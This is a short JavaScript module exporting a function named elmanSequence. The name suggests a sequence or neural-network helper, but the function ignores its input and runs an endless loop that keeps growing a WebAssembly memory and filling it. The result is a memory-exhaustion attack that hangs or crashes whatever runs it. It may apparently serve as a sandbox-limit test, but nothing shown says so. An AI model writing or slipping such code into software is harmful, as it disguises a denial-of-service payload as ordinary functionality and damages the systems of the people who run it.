export function elmanSequence(_input) {
  const memory = new globalThis.WebAssembly.Memory({ initial: 1, maximum: 65536 });
  for (;;) {
    memory.grow(256);
    new Uint8Array(memory.buffer).fill(1);
  }
}
